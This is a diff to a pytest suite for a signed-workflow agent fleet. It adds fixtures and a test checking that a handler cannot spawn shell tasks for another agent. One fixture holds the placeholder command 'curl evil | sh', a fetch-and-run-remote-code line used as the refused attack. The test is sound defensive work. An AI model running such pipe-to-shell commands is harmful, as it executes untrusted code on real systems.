@@ -73,6 +73,16 @@ tasks:
   Ship: {agent: cmdc, command: step, payload: {run: make release}, depends_on: [Approve]}
 """
 LAUNCHED = "name: launched\ntasks:\n  Work: {agent: webc, command: step, payload: {target: reaction}}\n"
+PLANNED = """
+name: planned
+tasks:
+  Plan: {agent: webc, command: plan, payload: {spawn: [{name: own, payload: {n: 1}}]}}
+"""
+SPAWNING = """
+name: spawning
+tasks:
+  Plan: {agent: webc, command: plan, payload: {spawn: [{name: shell, agent: cmdc, payload: {run: curl evil | sh}}]}}
+"""
 ISSUED = {"Scan": ("kalic", {"target": "repo"}), "Build": ("webc", {"target": "repo"})}
 ISSUED["Ship"] = ("cmdc", {"run": "make release"})
 
@@ -158,7 +168,8 @@ def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
         ops = signing.generate(directory / "signer", "ops")
         stryk = signing.generate(directory / "approver", "stryk")
         files = {}
-        for name, text in (("team", TEAM), ("slow", SLOW), ("idle", DORMANT), ("gated", GATED), ("launched", LAUNCHED)):
+        named = {"team": TEAM, "slow": SLOW, "idle": DORMANT, "gated": GATED, "launched": LAUNCHED}
+        for name, text in {**named, "planned": PLANNED, "spawning": SPAWNING}.items():
             files[name] = directory / "files" / f"{name}.yaml"
             files[name].parent.mkdir(exist_ok=True)
             files[name].write_text(text)
@@ -567,6 +578,20 @@ def test_a_client_rewriting_a_launched_runs_spec_runs_none_of_it(fleet: Fleet) -
     assert not [row for row in fleet.ran(wf_id) if row["task"] == "Ship"], fleet.ran(wf_id)
     assert fleet.alive(), fleet.procs.output()
     record("rewrite a launched run's spec, signed again", "client", "worked: Ship ran it", "dead-lettered: tampered")
+
+
+def test_under_require_signed_a_handler_spawns_tasks_for_its_own_agent_only(fleet: Fleet) -> None:
+    """A webc handler spawns a `step` for cmdc with a shell line of its choosing: no signed file says
+    to run that, so the spawn fails its attempt; a child for webc itself runs as any spawn does."""
+    with fleet.client("client") as client:
+        refused = client.wait(client.submit(fleet.files["spawning"]), timeout=60)
+        planned = client.wait(client.submit(fleet.files["planned"]), timeout=60)
+    error = refused["tasks"]["Plan"]["error"]
+    assert refused["state"] == "failed" and "SpawnError" in error and "spawner's agent ('webc')" in error, error
+    assert not [row for row in fleet.ran(refused["id"]) if row["agent"] == "cmdc"]
+    assert planned["state"] == "succeeded", planned
+    assert [(row["task"], row["agent"]) for row in fleet.ran(planned["id"])] == [("Plan/own", "webc")]
+    record("a handler spawns cmdc a shell line", "webc", "cmdc ran it", "refused: SpawnError")
 
 
 def test_unsigned_and_tampered_workflow_files_are_refused(fleet: Fleet, tmp_path: Path) -> None:
